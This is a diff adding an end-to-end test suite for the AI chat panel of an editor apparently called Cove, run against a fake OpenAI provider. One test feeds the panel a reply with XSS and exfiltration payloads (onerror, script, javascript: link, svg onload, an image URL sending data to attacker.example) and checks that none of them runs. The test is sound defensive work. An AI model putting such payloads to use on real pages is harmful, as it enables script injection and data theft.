@@ -1,0 +1,258 @@
+import type { FakeOpenAIServer } from '../fixtures/fake-openai-server.mjs';
+import type { CovePage } from './support/cove-page';
+import { expect, test } from './support/fixtures';
+
+/** Adds the test's fake provider with one chat model and closes Settings. */
+async function connect(cove: CovePage, provider: FakeOpenAIServer, apiKey?: string) {
+  provider.configure({ models: [{ id: 'chat-model', object: 'model', owned_by: 'fake' }] });
+  await cove.openSettings();
+  await cove.addProvider({
+    name: 'Fake',
+    baseURL: provider.baseURL,
+    ...(apiKey ? { apiKey } : {}),
+  });
+  await cove.page.getByRole('button', { name: 'Close settings' }).click();
+  await expect(cove.page.getByRole('combobox', { name: 'Model' })).toHaveValue(/\/chat-model$/);
+}
+
+const messageBox = (cove: CovePage) => cove.page.getByRole('textbox', { name: 'Message' });
+const replies = (cove: CovePage) => cove.page.getByRole('article', { name: 'Assistant reply' });
+
+async function ask(cove: CovePage, text: string) {
+  await messageBox(cove).fill(text);
+  await messageBox(cove).press('Enter');
+}
+
+test('chat with streaming, reasoning and the open file as context; it is there after a reload', async ({
+  cove,
+  provider,
+}) => {
+  await connect(cove, provider);
+  await cove.item('main.py').click();
+  provider.script({
+    reasoning: 'The person asks about greet. It formats a string.',
+    content:
+      '## What `greet` does\n\nIt returns a greeting:\n\n```python\nprint(greet("Ada"))\n```\n\nThat is all.',
+    delayMs: 20,
+  });
+  await ask(cove, 'Explain the function greet');
+  await expect(cove.page.getByRole('article', { name: 'Your message' })).toHaveText(
+    'Explain the function greet',
+  );
+  const reply = replies(cove).last();
+  await expect(reply.getByRole('heading', { name: 'What greet does' })).toBeVisible();
+  await expect(reply.getByText('That is all.')).toBeVisible();
+  await expect(reply.getByText(/^Thought for \d/)).toBeVisible();
+  await reply.getByText(/^Thought for/).click();
+  await expect(reply.getByText('The person asks about greet.')).toBeVisible();
+  await expect(reply.getByLabel('Token usage')).toContainText(/\d+ in · \d+ out tokens/);
+  await expect(reply.getByRole('button', { name: 'Copy python code' })).toBeVisible();
+
+  // The request carried the open file and the conversation, and no SDK headers.
+  const request = provider.chatRequests()[0]!;
+  const body = request.body as { messages: { role: string; content: string }[]; stream: boolean };
+  expect(body.stream).toBe(true);
+  expect(body.messages[0]!.role).toBe('system');
+  expect(body.messages[0]!.content).toContain('The open file is main.py');
+  expect(body.messages[0]!.content).toContain('def greet(name: str) -> str:');
+  expect(body.messages.at(-1)).toEqual({ role: 'user', content: 'Explain the function greet' });
+  expect(Object.keys(request.headers).filter((h) => h.startsWith('x-stainless'))).toEqual([]);
+
+  await cove.reload();
+  await expect(replies(cove).last().getByText('That is all.')).toBeVisible();
+  await expect(
+    cove.page.getByRole('combobox', { name: 'Conversation' }).locator('option:checked'),
+  ).toHaveText('Explain the function greet');
+});
+
+test('Enter sends, Shift+Enter makes a new line; a follow-up keeps the history', async ({
+  cove,
+  provider,
+}) => {
+  await connect(cove, provider);
+  await messageBox(cove).click();
+  await cove.page.keyboard.type('first line');
+  await cove.page.keyboard.press('Shift+Enter');
+  await cove.page.keyboard.type('second line');
+  await expect(messageBox(cove)).toHaveValue('first line\nsecond line');
+  await cove.page.keyboard.press('Enter');
+  await expect(replies(cove)).toHaveCount(1);
+  await expect(replies(cove).last()).toContainText('Echo: first line');
+  await ask(cove, 'and again');
+  await expect(replies(cove)).toHaveCount(2);
+  const body = provider.chatRequests()[1]!.body as {
+    messages: { role: string; content: string }[];
+  };
+  expect(body.messages.slice(1).map((m) => m.role)).toEqual(['user', 'assistant', 'user']);
+});
+
+test('Stop ends the reply at once and keeps what arrived', async ({ cove, provider }) => {
+  await connect(cove, provider);
+  provider.script({ content: 'word '.repeat(400), chunkSize: 5, delayMs: 30 });
+  await ask(cove, 'Talk a lot');
+  const reply = replies(cove).last();
+  await expect(reply).toContainText('word word');
+  await cove.page.getByRole('button', { name: 'Stop' }).click();
+  await expect(reply.getByText('Stopped. What arrived is kept.')).toBeVisible();
+  const kept = (await reply.locator('.markdown').innerText()).length;
+  expect(kept).toBeGreaterThan(5);
+  expect(kept).toBeLessThan('word '.repeat(400).length);
+  await expect(cove.page.getByRole('button', { name: 'Send' })).toBeVisible();
+  await cove.reload();
+  await expect(replies(cove).last().getByText('Stopped. What arrived is kept.')).toBeVisible();
+});
+
+test('a rate limit is retried visibly and recovers', async ({ cove, provider }) => {
+  await connect(cove, provider);
+  provider.script(
+    { status: 429, headers: { 'retry-after': '2' } },
+    { content: 'Recovered after waiting.' },
+  );
+  await ask(cove, 'Hello');
+  await expect(cove.page.getByRole('status').filter({ hasText: /Retrying in \d s/ })).toBeVisible();
+  await expect(replies(cove).last()).toContainText('Recovered after waiting.', { timeout: 15_000 });
+  await expect(cove.page.getByRole('status').filter({ hasText: 'Retrying in' })).toBeHidden();
+  expect(provider.chatRequests()).toHaveLength(2);
+});
+
+test('a refused key explains itself, is never shown, and Retry works once fixed', async ({
+  cove,
+  provider,
+}) => {
+  const wrongKey = 'sk-wrong-key-0000111122223333';
+  await connect(cove, provider, wrongKey);
+  // The provider starts refusing this key (revoked, say) after the models were listed.
+  provider.configure({ apiKey: 'sk-right-key' });
+  await ask(cove, 'Hello');
+  const alert = replies(cove).last().getByRole('alert');
+  await expect(alert).toContainText(/key/i);
+  await expect(alert).toContainText(/Settings/);
+  await expect(cove.page.locator('body')).not.toContainText(wrongKey);
+  expect(provider.chatRequests()).toHaveLength(1);
+  // The server now accepts it; Retry asks again and the reply replaces the error.
+  provider.configure({ apiKey: null });
+  await alert.getByRole('button', { name: 'Retry' }).click();
+  await expect(replies(cove).last()).toContainText('Echo: Hello');
+  await expect(replies(cove)).toHaveCount(1);
+});
+
+test('nothing in a reply runs script or loads anything until clicked', async ({
+  cove,
+  provider,
+}) => {
+  await connect(cove, provider);
+  const external: string[] = [];
+  cove.page.on('request', (request) => {
+    if (request.url().includes('attacker.example')) external.push(request.url());
+  });
+  provider.script({
+    content: [
+      '<img src="https://attacker.example/pixel.png" onerror="window.__pwned=1">',
+      '<script>window.__pwned=2</script>',
+      '[click me](javascript:window.__pwned=3)',
+      '![diagram](https://attacker.example/secret?k=abc)',
+      '<svg onload="window.__pwned=4"><circle r="5"/></svg>',
+    ].join('\n\n'),
+  });
+  await ask(cove, 'Show me');
+  const reply = replies(cove).last();
+  const placeholder = reply
+    .getByRole('button', { name: /Load image from attacker\.example/ })
+    .first();
+  await expect(placeholder).toBeVisible();
+  await reply
+    .getByText('click me')
+    .click()
+    .catch(() => undefined);
+  expect(
+    await cove.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
+  ).toBeUndefined();
+  expect(external).toEqual([]);
+  // The person chooses to load it: now, and only now, the request goes out.
+  const loaded = cove.page.waitForRequest(/attacker\.example/);
+  await placeholder.click();
+  await loaded;
+});
+
+test('code block buttons: save as a file and insert into the open file', async ({
+  cove,
+  provider,
+}) => {
+  await connect(cove, provider);
+  provider.script({ content: 'Here:\n\n```python\ndef square(x):\n    return x * x\n```\n' });
+  await ask(cove, 'Write square');
+  const reply = replies(cove).last();
+  await reply.getByRole('button', { name: 'Save python code as a file' }).click();
+  await expect(cove.dialog.getByRole('textbox')).toHaveValue('snippet.py');
+  await cove.answer('square.py', 'Save');
+  await expect(cove.item('square.py')).toBeVisible();
+  await expect(cove.tab('square.py')).toHaveAttribute('aria-selected', 'true');
+  expect(await cove.editorText('square.py')).toBe('def square(x):\n    return x * x');
+
+  await cove.item('main.py').click();
+  await cove.editor('main.py').click();
+  await cove.page.keyboard.press('ControlOrMeta+End');
+  await reply.getByRole('button', { name: 'Insert python code into the open file' }).click();
+  expect(await cove.editorText('main.py')).toContain(
+    '    print("The first ten Fibonacci numbers:", fibonacci(10))\ndef square(x):',
+  );
+});
+
+test('conversations: new, switch, rename, clear and delete (each asks first where it destroys)', async ({
+  cove,
+  provider,
+}) => {
+  await connect(cove, provider);
+  await ask(cove, 'First topic');
+  await expect(replies(cove)).toHaveCount(1);
+  await cove.page.getByRole('button', { name: 'New chat' }).click();
+  await expect(replies(cove)).toHaveCount(0);
+  await ask(cove, 'Second topic');
+  await expect(replies(cove).last()).toContainText('Echo: Second topic');
+  const sessions = cove.page.getByRole('combobox', { name: 'Conversation' });
+  await sessions.selectOption({ label: 'First topic' });
+  await expect(replies(cove).last()).toContainText('Echo: First topic');
+
+  await cove.page.getByRole('button', { name: 'Rename conversation' }).click();
+  await cove.answer('Renamed topic', 'Rename');
+  await expect(sessions.locator('option:checked')).toHaveText('Renamed topic');
+
+  await cove.page.getByRole('button', { name: 'Clear conversation' }).click();
+  await cove.dialog.getByRole('button', { name: 'Cancel' }).click();
+  await expect(replies(cove)).toHaveCount(1);
+  await cove.page.getByRole('button', { name: 'Clear conversation' }).click();
+  await cove.dialog.getByRole('button', { name: 'Clear' }).click();
+  await expect(replies(cove)).toHaveCount(0);
+
+  await cove.page.getByRole('button', { name: 'Delete conversation' }).click();
+  await cove.dialog.getByRole('button', { name: 'Delete conversation' }).click();
+  await expect(sessions.locator('option', { hasText: 'Renamed topic' })).toHaveCount(0);
+  await expect(sessions.locator('option', { hasText: 'Second topic' })).toHaveCount(1);
+});
+
+test('a reload in the middle of a reply keeps what was shown and marks it interrupted', async ({
+  cove,
+  provider,
+}) => {
+  await connect(cove, provider);
+  provider.script({ content: 'slowly '.repeat(300), chunkSize: 7, delayMs: 40 });
+  await ask(cove, 'Be slow');
+  const reply = replies(cove).last();
+  await expect(reply).toContainText('slowly slowly slowly slowly slowly');
+  // Let at least one periodic write land, then go away mid-stream.
+  await cove.page.waitForTimeout(1500);
+  const shown = (await reply.locator('.markdown').innerText()).trim().length;
+  await cove.reload();
+  const after = replies(cove).last();
+  await expect(after.getByText('This reply was interrupted')).toBeVisible();
+  const kept = (await after.locator('.markdown').innerText()).trim().length;
+  // At most about a second of text is lost (40 ms per 7 characters ≈ 175 characters a second).
+  expect(kept).toBeGreaterThan(shown - 400);
+  expect(kept).toBeGreaterThan(0);
+});
+
+test('without a provider the assistant says how to set one up', async ({ cove }) => {
+  await expect(cove.page.getByText('Connect a model to start')).toBeVisible();
+  await cove.page.getByRole('button', { name: 'Add a provider' }).click();
+  await expect(cove.settings).toBeVisible();
+});
